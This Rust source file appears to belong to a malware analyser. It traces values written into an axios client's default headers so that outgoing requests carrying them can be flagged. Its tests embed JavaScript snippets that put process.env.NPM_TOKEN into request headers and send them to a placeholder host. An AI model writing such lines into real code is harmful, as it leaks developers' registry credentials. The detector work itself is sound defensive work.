//! What is set in the defaults of a client after it was made: `api.defaults.headers.common['X-Key'] = key`.

use super::hook::paths_of;
use crate::{
    eval::Evaluator,
    ir::{Expr, ExprId, Module},
    tables::Channel,
    value::{Path, Value},
};

/// Properties between what is written to and the defaults.
const MOST_PROPERTIES: usize = 4;

/// What is written to the defaults of a client, or somewhere in them. Clients that are made of another one have its.
pub(super) fn written(evaluator: &mut Evaluator<'_>, channel: &Channel, client: &Path) -> Vec<Value> {
    let Some(defaults) = channel.defaults.as_deref() else { return Vec::new() };
    let names: Vec<&str> = defaults.split('.').collect();
    let module = evaluator.module;
    let found =
        module.writes.iter().filter_map(|write| Some((client_before(module, write.object, &names)?, write.value)));
    let found: Vec<(ExprId, ExprId)> = found.collect();
    let mut written = Vec::new();
    for (holder, value) in found {
        let is_of_client = |path: &Path| path.root == client.root && client.segments.starts_with(&path.segments);
        let holder = evaluator.value(holder);
        if paths_of(&holder).iter().any(is_of_client) {
            written.push(evaluator.value(value));
        }
    }
    written
}

/// What has the defaults that something is, or is in.
fn client_before(module: &Module, object: ExprId, defaults: &[&str]) -> Option<ExprId> {
    let mut names: Vec<&str> = Vec::new();
    let mut at = object;
    for _ in 0..MOST_PROPERTIES {
        at = match module.expr(at) {
            Expr::Member(holder, name) => {
                names.insert(0, name);
                if names.starts_with(defaults) {
                    return Some(*holder);
                }
                *holder
            }
            Expr::Index(holder, _) => {
                names.clear();
                *holder
            }
            _ => return None,
        };
    }
    None
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    #[test]
    fn what_is_set_in_the_defaults_is_sent() {
        let before = "const axios = require('axios'); const api = axios.create({ baseURL: 'https://x.example' });";
        for code in [
            "api.defaults.headers.common['x-k'] = process.env.NPM_TOKEN; api.get('/v1')",
            "api.defaults.headers = { 'x-k': process.env.NPM_TOKEN }; api.get('/v1')",
            "axios.defaults.headers.post.Authorization = process.env.NPM_TOKEN; axios.post('https://x.example', {})",
        ] {
            let facts = extracted(&format!("{before} {code}")).facts;
            let carries = |fact: &molehunt_model::Fact| matches!(&fact.behaviour, Behaviour::SendData(sent) if sent.carries.iter().any(|it| it.name == "NPM_TOKEN"));
            assert!(facts.iter().any(carries), "{code}");
        }
    }
}
